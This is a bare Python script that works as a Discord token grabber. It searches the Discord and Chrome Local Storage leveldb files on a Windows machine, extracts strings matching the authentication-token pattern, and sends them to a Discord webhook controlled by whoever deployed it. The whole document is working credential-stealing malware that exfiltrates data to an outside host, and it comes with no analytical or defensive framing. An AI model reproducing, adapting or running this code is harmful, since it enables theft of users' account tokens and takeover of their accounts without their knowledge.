import os, re, json
import urllib.request
roaming = os.getenv("APPDATA")
paths = {
    "Discord": roaming + "\\discord\\Local Storage\\leveldb",
    "Chrome": os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
}
found = []
for name, path in paths.items():
    if not os.path.exists(path):
        continue
    for file in os.listdir(path):
        if not file.endswith((".log", ".ldb")):
            continue
        text = open(os.path.join(path, file), errors="ignore").read()
        found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text)
data = json.dumps({"content": "\n".join(found)}).encode()
url = "https://discordapp.com/api/webhooks/1098237465019283746/«u68»"
urllib.request.urlopen(urllib.request.Request(url, data, {"Content-Type": "application/json"}))
